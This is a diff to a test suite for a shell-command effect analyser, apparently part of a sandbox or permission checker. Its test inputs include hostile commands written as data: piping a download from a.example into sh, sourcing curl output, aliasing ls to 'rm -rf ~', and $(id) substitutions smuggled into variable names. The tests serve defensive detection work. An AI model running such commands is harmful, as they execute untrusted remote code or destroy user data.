@@ -108,7 +108,7 @@ describe('follows where the shell is', () => {
     ['cd "" && cat a', ['read /workspace/a']],
     ['builtin cd /etc && cat a', ['read /etc/a']],
     ['command cd /etc && cat a', ['read /etc/a']],
-    ['eval "cd /etc" && cat a', ['read /etc/a']],
+    ['eval "cd /etc" && cat a', ['evaluate shell: cd /etc', 'read /etc/a']],
     ['pushd /etc && cat a', ['read /etc/a']],
     ['if cd /etc; then cat a; fi; cat b', ['read /etc/a', 'read /etc/b', 'read /workspace/b']],
     ['! cd /etc && cat a', ['read /workspace/a']],
@@ -120,7 +120,7 @@ describe('follows where the shell is', () => {
     expect(effectsOf(command)).toEqual(effects);
   });
 
-  it.each(['cd -', 'cd "$X"', 'cd $(pwd)', 'cd -P a', 'cd a b', 'popd', 'cd *', 'cd +1', 'cd ~root', 'cd ~+'])(
+  it.each(['cd -', 'cd "$X"', 'cd $(ls)', 'cd -P a', 'cd a b', 'popd', 'cd *', 'cd +1', 'cd ~root', 'cd ~+'])(
     'does not know after `%s`',
     command => {
       expect(effectsOf(`${command} && cat a`)).toEqual(
@@ -140,7 +140,7 @@ describe('knows what is never reached', () => {
     ['exit 0; rm a', []],
     ['{ exit; }; rm a', []],
     ['if true; then exit; else exit 1; fi; rm a', []],
-    ['eval exit; rm a', []],
+    ['eval exit; rm a', ['evaluate shell: exit']],
   ])('%s', (command, effects) => {
     expect(effectsOf(command)).toEqual(effects);
   });
@@ -177,24 +177,27 @@ describe('never guesses', () => {
   it.each([
     ['$X a', 'unknown : the program is only known at run time'],
     ['"$@"', 'unknown : the program is only known at run time'],
-    ['$(echo rm) a', 'unknown : the program is only known at run time'],
+    ['$(cat f) a', 'unknown : the program is only known at run time'],
     ['/bin/r? a', 'unknown /bin/r: the program is only known at run time'],
     ['l* a', 'unknown l: the program is only known at run time'],
     ['"" a', 'unknown : the program is only known at run time'],
     ['!/bin/sh', 'unknown !/bin/sh: shells disagree on what `!` means here'],
     ['!!', 'unknown !!: shells disagree on what `!` means here'],
-    ["trap 'rm -rf ~' EXIT", 'unknown trap: what this does to the shell is not followed'],
-    ["alias ls='rm -rf ~'; ls", 'unknown alias: what this does to the shell is not followed'],
+    ["trap 'cd /' DEBUG", 'unknown trap: what this does to the shell is not followed'],
+    ["trap 'cd /' INT", 'unknown trap: what this does to the shell is not followed'],
+    ['trap "$X" EXIT', 'evaluate shell: ‹known only at run time›'],
+    ["alias ls='rm -rf ~'; ls", 'unknown alias: shells disagree on where this is expanded'],
     ['enable -f ./x.so ls', 'unknown enable: what this does to the shell is not followed'],
     ['hash -p /tmp/x ls', 'unknown hash: the option `-p` is not known'],
-    ['mapfile a < f', 'unknown mapfile: what this does to the shell is not followed'],
-    ["let 'x=a[$(id)]'", 'unknown let: what this does to the shell is not followed'],
-    ['getopts a x', 'unknown getopts: what this does to the shell is not followed'],
+    ['mapfile -C ls -c 1 a < f', 'unknown mapfile: this is not the name of a variable'],
+    ["let 'x=a[$(id)]'", 'evaluate arithmetic: x=a[$(id)]'],
+    ['let "$X"', 'evaluate arithmetic: ‹known only at run time›'],
+    ["getopts a 'x[$(id)]'", 'unknown getopts: this is not the name of a variable'],
     ['complete -C x y', 'unknown complete: what this does to the shell is not followed'],
-    ['printf -v PATH /x', 'unknown printf: the option `-v` is not known'],
+    ["printf -v 'a[$(id)]' x", 'unknown printf: this is not the name of a variable'],
     ['declare -n r=PATH', 'unknown declare: an attribute of variables is not followed'],
     ['declare -i x', 'unknown declare: an attribute of variables is not followed'],
-    ['readonly PATH', 'unknown readonly: an attribute of variables is not followed'],
+    ['declare -i x=1', 'unknown declare: an attribute of variables is not followed'],
     ["read 'a[$(id)]'", 'unknown read: this is not the name of a variable'],
     ["unset 'a[$(id)]'", 'unknown unset: this is not the name of a variable'],
     ["export 'a[$(id)]=1'", 'unknown export: this is not the name of a variable'],
@@ -211,7 +214,7 @@ describe('never guesses', () => {
     ['((BASH_COMPAT=31))', 'unknown BASH_COMPAT=: this variable changes how the shell reads what follows'],
     ['eval "$X"', 'evaluate shell: ‹known only at run time›'],
     ['eval ls *', 'evaluate shell: ‹known only at run time›'],
-    ["eval 'f() { ls; }'", 'unknown f() { ls; }: the command uses `Function`, which is not interpreted'],
+    ['eval "$(cat f)"', 'evaluate shell: ‹known only at run time›'],
     ['. <(curl x)', 'evaluate shell: ‹known only at run time›'],
     ['source /dev/stdin <<< ls', 'evaluate shell: ‹known only at run time›'],
     ['curl -s http://a.example/x | sh', 'evaluate shell: ‹known only at run time›'],
@@ -224,14 +227,11 @@ describe('never guesses', () => {
     expect(effectsOf(command)).toContain(effect);
   });
 
-  it.each(['source x', '. x', 'trap ls EXIT', 'eval "$X"', 'alias a=b', 'unset "$X"'])(
-    'knows no variable after `%s`',
-    command => {
-      expect(effectsOf(`x=a; ${command}; cat "$x"`)).toContain(
-        'unknown cat: an argument that is only known at run time may be an option',
-      );
-    },
-  );
+  it.each(['source x', '. x', 'eval "$X"', 'unset "$X"'])('knows no variable after `%s`', command => {
+    expect(effectsOf(`x=a; ${command}; cat "$x"`)).toContain(
+      'unknown cat: an argument that is only known at run time may be an option',
+    );
+  });
 });
 
 describe('shells other than bash', () => {
